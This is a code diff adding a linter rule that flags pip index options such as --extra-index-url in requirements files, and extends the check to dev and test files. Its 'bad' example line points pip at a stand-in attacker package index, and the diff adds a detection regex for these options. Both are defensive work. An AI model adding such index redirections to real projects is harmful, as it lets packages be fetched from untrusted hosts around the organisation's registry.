@@ -85,7 +85,20 @@ RULES = [
         bad='[[package]]\nname = "leftpad-py"',
         good='[[package]]\nname = "idna"',
     ),
+    Rule(
+        "D008",
+        "dependencies",
+        "package index option in a requirements file",
+        "--index-url, --extra-index-url, --find-links and --trusted-host make pip fetch packages from"
+        " wherever the file says, around the organisation's registry",
+        "remove the option; the registry is configured by the organisation (pip.conf, CDK_REGISTRY_URL)",
+        bad="--extra-index-url https://pypi.attacker.example/simple\nrequests>=2.31,<3",
+        good="requests>=2.31,<3",
+    ),
 ]
+INDEX_OPTION = re.compile(
+    r"^(-i|--index-url|--extra-index-url|-f|--find-links|--trusted-host|--use-feature)\b"
+)
 R = {r.code: r for r in RULES}
 SKIP_REQ_FILES = re.compile(r"(dev|test|doc|lint|ci)", re.I)
 
@@ -154,12 +167,16 @@ def _pyproject(project: Project, allowed: dict[str, str]) -> list[Finding]:
 def _requirements(project: Project, allowed: dict[str, str]) -> list[Finding]:
     out = []
     for path in sorted(Path(project.root).glob("requirements*.txt")):
-        if SKIP_REQ_FILES.search(path.name):
-            continue
         rel = project.rel(path)
+        skipped = bool(SKIP_REQ_FILES.search(path.name))  # dev/test files: only their index options
         for i, raw in enumerate(path.read_text(encoding="utf-8").splitlines(), 1):
             line = raw.split(" #", 1)[0].strip()
             if not line or line.startswith("#"):
+                continue
+            if INDEX_OPTION.match(line):
+                out.append(make(R["D008"], rel, i, raw.find(line[:1]), f"'{line.split()[0]}' in {rel}"))
+                continue
+            if skipped:
                 continue
             if line.startswith(("-e", "--editable")):
                 out.append(make(R["D004"], rel, i, 0, f"'{line}': editable/direct requirements are refused"))
